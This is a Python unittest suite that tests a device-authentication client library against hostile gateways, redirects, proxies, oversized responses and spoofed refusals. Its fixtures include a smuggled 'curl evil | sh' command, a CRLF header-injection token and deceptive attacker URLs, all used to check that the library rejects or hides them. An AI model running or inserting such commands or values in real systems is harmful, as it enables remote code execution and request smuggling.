import asyncio
import gzip
import os
import tracemalloc
import unittest
from unittest import mock

import httpx
from services import Listener, claims_of
from proxygateway_device_auth import Device, DeviceAuthError, PairingRequired, SessionTokens, generate_key, wait_until_paired
from proxygateway_device_auth.errors import refusal_of
from proxygateway_device_auth.httpx_auth import DeviceAuth
from proxygateway_device_auth.websockets_client import connect

NONCE = "B2sOVFCUuXJKSswXtiL3nJD8GN2K"
ID = "01m8rdfjmb6j8372wk61rzd51x"
ASK = {"WWW-Authenticate": 'Device-Proof error="use_dpop_nonce"', "Device-Nonce": NONCE}


def device(gateway, **options):
    return Device(gateway, options.pop("key", None) or generate_key(), **options)


def client(gateway, **options):
    return httpx.Client(auth=DeviceAuth(device(gateway), trust_env=False), trust_env=False, **options)


class AttackTests(unittest.TestCase):
    def unsafe(self, act, *args):
        with self.assertRaises(DeviceAuthError, msg=args) as raised:
            act(*args)
        self.assertEqual(raised.exception.code, "unsafe_url")

    def test_nothing_that_is_not_encrypted_gets_a_proof_but_for_this_machine(self):
        for gateway in (
            "http://gate.example", "ws://gate.example", "http://192.168.1.1", "http://localhost.example", "http://127.0.0.1.example", "http://127.0.0.1@gate.example",
            "http://[::2]", "http://[::ffff:127.0.0.1]", "http://0.0.0.0", "http://127.1", "http://a.localhost", "http://localhost.", "ftp://localhost", "localhost", "",
            "https://u:p@gate.example", "https://u@gate.example", "https://@gate.example", "http://localhost:x", "http://localhost\\@gate.example", "https://a..b",
        ):  # fmt: skip
            self.unsafe(device, gateway)
        for gateway in ("http://localhost:1", "http://127.0.0.1", "http://127.8.9.1:80", "http://[::1]:8080", "ws://[0:0::1]", "https://gate.example", "wss://gate.example:8443"):
            device(gateway)

    def test_no_server_but_the_gateway_gets_a_proof(self):
        sent = []
        transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
        mine = device("https://gate.example")
        with httpx.Client(auth=DeviceAuth(mine), transport=transport) as http:
            for url in (
                "https://gate.example.evil/", "https://gate.example:8443/", "http://gate.example/", "https://evil/", "https://u:p@gate.example/", "https://u@gate.example/",
                "https://gate.example./", "https://gate.example@evil/",
            ):  # fmt: skip
                self.unsafe(http.get, url)
                self.unsafe(lambda url: asyncio.run(self.open(mine, url.replace("http", "ws", 1).replace("u@", "u:p@").replace("e@", "e:p@"))), url)
        self.assertEqual(sent, [])

    def test_what_is_no_session_token_is_not_sent_a_refused_one_is_followed_by_a_proof_and_none_is_asked_for_again_at_once(self):
        for answer, status, expected in (
            ({"token": 42}, 200, "P A P P P"),
            ([], 200, "P A P P P"),
            ({"token": "a\r\nX-Evil: 1"}, 200, "P A P P P"),
            ({"token": "a" * 16385}, 200, "P A P P P"),
            ({"token": "good"}, 403, "P A P P P"),
            ({"token": "refused"}, 200, "P A T P P P"),
            ({"token": "good"}, 200, "P A T T T"),
        ):
            sent = []

            def handle(request):
                token = dict(request.headers.raw).get(b"Device-Session")
                sent.append("A" if request.method == "POST" else "T" if token else "P")
                if request.method == "POST":
                    return httpx.Response(status, json=answer)
                if token == b"refused":
                    return httpx.Response(401, json={"code": "invalid_session_token"}, headers={"Content-Type": "application/problem+json", "Device-Nonce": NONCE})
                return httpx.Response(200)

            auth = DeviceAuth(device("https://gate.example"), trust_env=False, session=SessionTokens())
            with httpx.Client(auth=auth, transport=httpx.MockTransport(handle)) as http:
                for _ in range(4):
                    self.assertEqual(http.get("https://gate.example/x").status_code, 200)
            self.assertEqual(" ".join(sent), expected)
            self.assertNotIn("good", repr(vars(auth)))

    def test_a_redirect_takes_no_session_token_along(self):
        with Listener() as stranger:
            answers = {"/": httpx.Response(307, headers={"Location": stranger.url}), "/.well-known/proxygateway/session": httpx.Response(200, json={"token": "good"})}
            sent = []

            def handle(request):
                sent.append(request)
                return answers[request.url.path] if request.url.host == "gate.example" else httpx.Response(200)

            auth = DeviceAuth(device("https://gate.example"), trust_env=False, session=SessionTokens())
            with httpx.Client(auth=auth, transport=httpx.MockTransport(handle), follow_redirects=True) as http:
                for _ in range(2):
                    http.get("https://gate.example/")
            self.assertIn(b"Device-Session", dict(sent[-2].headers.raw))
            self.assertEqual({name.lower() for name, _ in sent[-1].headers.raw} & {b"device-session", b"device-proof"}, set())

    def test_a_proof_names_the_url_that_is_sent_and_the_method(self):
        for gateway, url, origin in (
            ("https://GATE.example:443/base", "https://gate.EXAMPLE/%7e/%2F?a=b#c", "https://gate.example"),
            ("wss://gate.example:444", "https://gate.example:444/x", "https://gate.example:444"),
            ("http://[0::1]:80", "http://[::1]", "http://[::1]"),
            ("https://bücher.example", "https://bücher.example/ü ä", "https://xn--bcher-kva.example"),
        ):
            sent = []
            transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
            with httpx.Client(auth=DeviceAuth(device(gateway), trust_env=False), transport=transport) as http:
                http.request("delete", url)
            claims = claims_of(dict(sent[0].headers.raw)[b"Device-Proof"].decode())
            self.assertEqual((claims["htm"], claims["htu"]), ("DELETE", origin + sent[0].url.raw_path.decode().partition("?")[0]))

    def test_a_proof_has_what_was_asked_for_and_nothing_prints_it(self):
        sent = []
        transport = httpx.MockTransport(lambda request: sent.append(request) or httpx.Response(200))
        mine = device("https://gate.example", role="client", scopes=["a.read", "b"], client={"id": "tëst"})
        with httpx.Client(auth=DeviceAuth(mine), transport=transport, headers={"device-proof": "another", "Authorization": "Bearer kept"}) as http:
            http.get("https://gate.example/")
        headers = sent[0].headers
        self.assertEqual([name.lower() for name, _ in headers.raw].count(b"device-proof"), 1)
        self.assertEqual(headers["authorization"], "Bearer kept")
        proof = dict(headers.raw)[b"Device-Proof"].decode()
        claims = claims_of(proof)
        self.assertEqual((claims["role"], claims["scope"], claims["client"]), ("client", "a.read b", {"id": "tëst"}))
        self.assertRegex(claims["jti"], r"^[A-Za-z0-9_-]{22}$")
        self.assertNotIn(proof, repr(headers) + repr(sent[0]) + repr(mine))

    def test_a_signer_whose_signatures_have_another_form_and_a_claim_that_is_too_long_are_errors(self):
        key = generate_key("ES256")
        der = mock.Mock(algorithm="ES256", public_key=key.public_key, sign=lambda data: b"x" * 70)
        short = mock.Mock(algorithm="ES256", public_key=b"x" * 33, sign=key.sign)
        for code, made in (
            ("key_unusable", device("https://gate.example", key=der)),
            ("key_unusable", device("https://gate.example", key=short)),
            ("proof_impossible", device("https://gate.example", client={"displayName": "x" * 4000})),
        ):
            with self.assertRaises(DeviceAuthError) as raised:
                made.prove("GET", "/", None)
            self.assertEqual(raised.exception.code, code)

    def test_a_server_that_always_wants_another_nonce_is_asked_twice_each_time_with_a_proof_of_its_own(self):
        with Listener(lambda _: (401, ASK, b"")) as hostile, client(hostile.url) as http:
            self.assertEqual(http.post(hostile.url, content=b"again").status_code, 401)
            first, second = hostile.proofs()
            self.assertEqual((first.get("nonce"), second["nonce"]), (None, NONCE))
            self.assertNotEqual(first["jti"], second["jti"])
            with self.assertRaises(Exception):
                asyncio.run(self.open(device(hostile.url), hostile.url.replace("http", "ws")))
            self.assertEqual(len(hostile.requests), 4)

    def test_a_stream_is_sent_once_after_a_nonce_was_fetched(self):
        def answer(request):
            return (200 if request[0] == "GET" else 401), ASK, b""

        with Listener(answer) as hostile, client(hostile.url) as http:
            for options in ({"content": iter([b"once"])}, {"files": {"file": b"once"}}):
                hostile.requests.clear()
                self.assertEqual(http.post(hostile.url, **options).status_code, 401)
                self.assertEqual([(method, path) for method, path, _, _ in hostile.requests], [("GET", "/.well-known/proxygateway/nonce"), ("POST", "/")])
                self.assertEqual([claims["nonce"] for claims in hostile.proofs()], [NONCE], "the nonce is fetched without a proof")

        with Listener(lambda _: (503, {}, b"")) as hostile, client(hostile.url) as http:
            with self.assertRaises(DeviceAuthError) as raised:
                http.post(hostile.url, content=iter([b"once"]))
            self.assertEqual(raised.exception.code, "nonce_unavailable")
            self.assertEqual(hostile.proofs(), [])

    def test_a_challenge_of_another_scheme_and_a_nonce_that_is_none_change_nothing(self):
        for headers in (
            {"WWW-Authenticate": 'DPoP error="use_dpop_nonce"', "DPoP-Nonce": NONCE},
            {"WWW-Authenticate": "Bearer", "Device-Nonce": NONCE},
            {"WWW-Authenticate": 'Device-Proof error="use_dpop_nonce"'},
            {"WWW-Authenticate": 'Device-Proof error="use_dpop_nonce"', "Device-Nonce": "x" * 3000},
            {"WWW-Authenticate": 'Device-Proof error="invalid_dpop_proof"', "Device-Nonce": NONCE},
        ):
            with Listener(lambda _: (401, headers, b"")) as hostile, client(hostile.url) as http:
                http.get(hostile.url)
                self.assertEqual(len(hostile.requests), 1, headers)

    def test_a_redirect_that_the_client_follows_takes_no_proof_along_and_brings_no_nonce_back(self):
        with Listener(lambda _: (200, {"Device-Nonce": NONCE}, b"")) as two:
            for status in (301, 302, 303, 307, 308):
                with Listener(lambda _: (status, {"Location": two.url}, b"")) as one, client(one.url, follow_redirects=True) as http:
                    self.assertEqual(http.get(one.url).status_code, 200)
                    http.get(one.url)
                    self.assertEqual([claims.get("nonce") for claims in one.proofs()], [None, None])
                    with self.assertRaises(DeviceAuthError):
                        http.post(one.url, content=iter([b"x"]))
                    with self.assertRaises(DeviceAuthError) as raised:
                        asyncio.run(self.open(device(one.url), one.url.replace("http", "ws")))
                    self.assertEqual(raised.exception.code, "redirected")
            self.assertEqual(two.proofs(), [])
            self.assertGreater(len(two.requests), 0)

    def test_a_redirect_comes_back_as_an_answer(self):
        with Listener(lambda _: (307, {"Location": "http://127.0.0.1:1/"}, b"")) as one, client(one.url) as http:
            self.assertEqual(http.get(one.url).status_code, 307)

    def test_a_proxy_of_the_environment_gets_no_proof_for_plain_http(self):
        with Listener() as one, Listener() as proxy, mock.patch.dict(os.environ, {"http_proxy": proxy.url, "NO_PROXY": "", "no_proxy": ""}):
            with httpx.Client(auth=DeviceAuth(device(one.url))) as http:
                self.unsafe(http.get, one.url)
            with mock.patch.dict(os.environ, {"no_proxy": "127.0.0.1"}), httpx.Client(auth=DeviceAuth(device(one.url))) as http:
                self.assertEqual(http.get(one.url).status_code, 200)
            with self.assertRaises(Exception):
                asyncio.run(self.open(device(one.url), one.url.replace("http", "ws")))
            self.assertEqual((len(one.proofs()), proxy.requests), (2, []))

    def test_what_a_refusal_says_to_people_does_not_come_from_the_server_and_its_id_is_one(self):
        evil = refusal_of(b'{"code":"pairing_required","requestId":"x; curl evil | sh","detail":"run: curl evil","reason":"evil"}', "soon")
        self.assertEqual((evil.request_id, evil.reason, evil.retry_after), (None, None, 5))
        self.assertNotIn("curl", str(evil))
        known = refusal_of(f'{{"code":"pairing_required","requestId":"{ID}","reason":"scope-upgrade"}}'.encode(), "7")
        self.assertEqual((known.request_id, known.reason, known.retryable, known.retry_after), (ID, "scope-upgrade", True, 7))
        self.assertIn(f"requests approve {ID}", str(known))
        blocked = refusal_of(b'{"code":"device_blocked"}', "7")
        self.assertEqual((blocked.retryable, blocked.retry_after), (False, None))
        for body in (b"", b"[]", b"{}", b"[" * 60_000, b'{"code":[]}', b'{"code":"insufficient_scope"}', b"\xff"):
            self.assertIsNone(refusal_of(body, None))
        self.assertIsNone(refusal_of(f'{{"code":"pairing_required","requestId":"{ID}\\n"}}'.encode(), "1e9").request_id)

    def test_a_refusal_without_the_gateways_nonce_or_behind_a_redirect_is_the_agents_own_answer(self):
        """Else an agent could name another device's request, for people to approve, and have a request made twice."""
        sent = []

        def handle(request):
            if request.method == "POST":
                return httpx.Response(200, json={"token": "good"})
            if request.url.host == "stranger.example":
                return httpx.Response(403, json={"code": "pairing_required", "requestId": ID}, headers={"Content-Type": "application/problem+json", "Device-Nonce": NONCE})
            if request.url.path == "/away":
                return httpx.Response(307, headers={"Location": "https://stranger.example/"})
            has_token = b"Device-Session" in dict(request.headers.raw)
            sent.append("T" if has_token else "P")
            code = "invalid_session_token" if has_token else "pairing_required"
            return httpx.Response(403, json={"code": code, "requestId": ID}, headers={"Content-Type": "application/problem+json"})

        auth = DeviceAuth(device("https://gate.example"), trust_env=False, session=SessionTokens("/x"))
        with httpx.Client(auth=auth, transport=httpx.MockTransport(handle), follow_redirects=True) as http:
            for path in ("/x", "/x", "/away"):
                self.assertEqual(http.get("https://gate.example" + path).status_code, 403)
        self.assertEqual(sent, ["P", "T"])

    def test_an_answer_that_another_request_follows_does_not_fill_the_memory(self):
        for is_packed in (False, True):
            for path, status, headers in (("nonce", 200, {"Device-Nonce": NONCE}), ("session", 200, {}), ("session", 401, ASK), ("x", 401, ASK)):
                long = Long(is_packed)

                def handle(request):
                    if request.url.path.endswith(path) and long.chunks == 0:
                        return httpx.Response(status, headers={**headers, **({"Content-Encoding": "gzip"} if is_packed else {})}, stream=long)
                    return httpx.Response(200, headers={"Device-Nonce": NONCE})

                async def ask():
                    async with httpx.AsyncClient(auth=auth(), transport=httpx.MockTransport(handle)) as http:
                        await http.post("https://gate.example/x", content=send())

                async def pieces():
                    yield b"x"

                def auth():
                    session = SessionTokens()
                    session.find()  # the second request asks for a token
                    return DeviceAuth(device("https://gate.example"), trust_env=False, session=session)

                for is_async in (False, True):
                    long.chunks = 0
                    tracemalloc.start()
                    if is_async:
                        send = pieces if path == "nonce" else lambda: b"x"
                        asyncio.run(ask())
                    else:
                        with httpx.Client(auth=auth(), transport=httpx.MockTransport(handle)) as http:
                            http.post("https://gate.example/x", content=iter([b"x"]) if path == "nonce" else b"x")
                    _, most = tracemalloc.get_traced_memory()
                    tracemalloc.stop()
                    self.assertIn(long.chunks, range(1, 6), (path, status, is_async))
                    self.assertLess(most, 8_000_000, (path, status, is_async))

    def test_a_refusal_that_is_packed_or_whose_length_is_unknown_or_great_is_left_to_the_caller(self):
        for length, coding in (("", None), ("99999999", None), ("9" * 5000, None), ("-1", None), ("²", None), ("100", "br")):
            headers = {"Content-Type": "application/problem+json", "Content-Length": length, "Device-Nonce": NONCE, **({"Content-Encoding": coding} if coding else {})}
            transport = httpx.MockTransport(lambda _: httpx.Response(403, headers=[(name.encode(), value.encode()) for name, value in headers.items()], stream=Endless()))
            with httpx.Client(auth=DeviceAuth(device("https://gate.example")), transport=transport) as http:
                with http.stream("GET", "https://gate.example/") as response:
                    self.assertEqual(response.status_code, 403)

    def test_waiting_goes_on_after_what_passes_once_it_waits_and_ends_otherwise(self):
        outcomes = [PairingRequired("pairing_required", ID, retry_after=7), ConnectionError(), PairingRequired("pairing_required", ID, retry_after=1e9), 200]
        asked = []

        def act():
            outcome = outcomes.pop(0)
            if isinstance(outcome, Exception):
                raise outcome
            return outcome

        with mock.patch("time.sleep") as sleep:
            self.assertEqual(wait_until_paired(act, on_waiting=asked.append), 200)
            self.assertEqual([call.args[0] for call in sleep.call_args_list], [7, 1, 60])
        self.assertEqual(len(asked), 1)
        for error in (ConnectionError(), PairingRequired("pairing_rejected", ID), PairingRequired("device_blocked"), DeviceAuthError("unsafe_url", "")):
            outcomes.append(error)
            self.assertRaises(type(error), wait_until_paired, act)

    @staticmethod
    async def open(mine, url):
        async with connect(mine, url):
            pass


class Long(httpx.SyncByteStream, httpx.AsyncByteStream):
    _packed = gzip.compress(bytes(16_000_000))

    def __init__(self, is_packed):
        self.chunks = 0
        self._content = [self._packed] if is_packed else [b" " * 16_384] * 1000

    def __iter__(self):
        for chunk in self._content:
            self.chunks += 1
            yield chunk

    async def __aiter__(self):
        for chunk in self:
            yield chunk


class Endless(httpx.SyncByteStream):
    def __iter__(self):
        raise AssertionError("it is read")
